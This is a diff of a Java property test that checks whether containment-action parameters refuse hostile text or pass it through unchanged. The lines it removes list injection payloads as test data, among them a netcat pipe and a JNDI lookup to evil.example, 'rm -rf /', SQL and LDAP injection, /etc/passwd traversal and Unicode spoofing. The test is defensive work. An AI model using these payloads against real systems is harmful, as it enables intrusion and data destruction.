@@ -1,18 +1,18 @@
 package dev.cordon.action;
 
+import static dev.cordon.testing.HostileText.assertArrived;
+import static dev.cordon.testing.HostileText.assertFitForATerminal;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.cordon.document.Arguments;
 import dev.cordon.document.Place;
-import dev.cordon.document.Problem;
 import dev.cordon.document.Reading;
+import dev.cordon.testing.HostileText;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.List;
-import java.util.Locale;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
@@ -20,53 +20,10 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.EnumSource;
 import tools.jackson.core.JsonPointer;
 import tools.jackson.databind.JsonNode;
-import tools.jackson.databind.node.ArrayNode;
 import tools.jackson.databind.node.ObjectNode;
-import tools.jackson.databind.node.StringNode;
 
 /** Whatever an attacker calls a thing, it is refused with a problem or arrives as data, letter by letter. */
 class HostileTextTest {
-
-    private static final List<String> HOSTILE = List.of(
-            "'; DROP TABLE users; --",
-            "\"",
-            "$(reboot)",
-            "${jndi:ldap://evil.example/a}",
-            "${sg}",
-            "`id`",
-            "; rm -rf /",
-            "| nc evil.example 1",
-            "&& true",
-            "\n- firewall_block: {}",
-            "\r\nX-Header: 1",
-            "\0",
-            "*)(uid=*))(|(uid=*",
-            "\\2a\\28",
-            "CN=a,OU=b",
-            "{\"a\": 1}",
-            "[1, 2]",
-            "%s%n",
-            "../../etc/passwd",
-            "\u001b[2J",
-            "\u202egnp.exe",
-            "\u200f",
-            "\u0430dmin",
-            "p\u0430yp\u0430l.example",
-            "\uff41dmin",
-            "\ud83d",
-            "\ude00",
-            "\ud83d\ude00",
-            "\u2028",
-            "\u0085",
-            "<script>alert(1)</script>",
-            "!!javax.script.ScriptEngineManager",
-            "*alias",
-            "&anchor",
-            "--help",
-            "null",
-            "true",
-            "a".repeat(10_240),
-            "\"".repeat(10_240));
 
     /** One text of one request: a parameter, a value in a list, or one inside a mapping. */
     record Field(ActionKind kind, JsonPointer pointer) {
@@ -76,14 +33,7 @@ class HostileTextTest {
         }
 
         JsonNode parametersWith(String text) {
-            var parameters = parameters();
-            var parent = parameters.at(pointer.head());
-            switch (parent) {
-                case ObjectNode object -> object.put(pointer.last().getMatchingProperty(), text);
-                case ArrayNode array -> array.set(pointer.last().getMatchingIndex(), StringNode.valueOf(text));
-                default -> throw new AssertionError("no text inside " + parent);
-            }
-            return parameters;
+            return HostileText.put(parameters(), pointer, text);
         }
     }
 
@@ -94,7 +44,7 @@ class HostileTextTest {
 
         assertThat(fields).isNotEmpty();
         for (var field : fields) {
-            for (var text : HOSTILE) {
+            for (var text : HostileText.KNOWN) {
                 assertRefusedOrUnchanged(ContainmentRequest.read(kind, field.parametersWith(text)), field, text);
             }
         }
@@ -146,23 +96,6 @@ class HostileTextTest {
         }
     }
 
-    /** Letter by letter; a name of the DNS in its one spelling, in which nothing looks like something else. */
-    private static void assertArrived(String value, String text) {
-        if (value.chars().allMatch(c -> c < 128) && !text.chars().allMatch(c -> c < 128)) {
-            assertThat(value).matches("(.*@)?(.*\\.)?xn--[a-z0-9._-]+");
-        } else {
-            assertThat(value).isIn(text, text.replaceFirst("\\.$", "").toLowerCase(Locale.ROOT));
-        }
-    }
-
-    private static void assertFitForATerminal(List<Problem> problems) {
-        assertThat(problems)
-                .isNotEmpty()
-                .allSatisfy(problem -> assertThat(problem.toString())
-                        .hasSizeLessThan(2000)
-                        .doesNotMatch("(?s).*[\\p{Cntrl}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}].*"));
-    }
-
     private static String onCommandLine(JsonNode value) {
         return value.isString() ? value.stringValue() : value.toString();
     }
@@ -183,34 +116,13 @@ class HostileTextTest {
     }
 
     private static List<Field> fieldsOf(ActionKind kind) {
-        var fields = new ArrayList<Field>();
-        collect(kind, Samples.full(kind).parameters(), JsonPointer.empty(), fields);
-        return fields;
+        return HostileText.placesIn(Samples.full(kind).parameters()).stream()
+                .map(place -> new Field(kind, place))
+                .toList();
     }
 
-    private static void collect(ActionKind kind, JsonNode node, JsonPointer at, List<Field> into) {
-        switch (node) {
-            case ObjectNode object ->
-                object.properties()
-                        .forEach(one -> collect(kind, one.getValue(), at.appendProperty(one.getKey()), into));
-            case ArrayNode array -> {
-                for (var i = 0; i < array.size(); i++) {
-                    collect(kind, array.get(i), at.appendIndex(i), into);
-                }
-            }
-            case StringNode _ -> into.add(new Field(kind, at));
-            default -> {}
-        }
-    }
-
-    /** Harmless at its ends, hostile in its middle, so that it does not fail at the first letter. */
     @Provide
     Arbitrary<String> hostile() {
-        var ends = Arbitraries.of("", "a", "web1", "j.doe", "'", "/x");
-        var middle = Arbitraries.oneOf(
-                Arbitraries.of(HOSTILE),
-                Arbitraries.strings().ofMaxLength(40),
-                Arbitraries.strings().ascii().ofMaxLength(20));
-        return Combinators.combine(ends, middle, ends).as((before, text, after) -> before + text + after);
+        return HostileText.any();
     }
 }
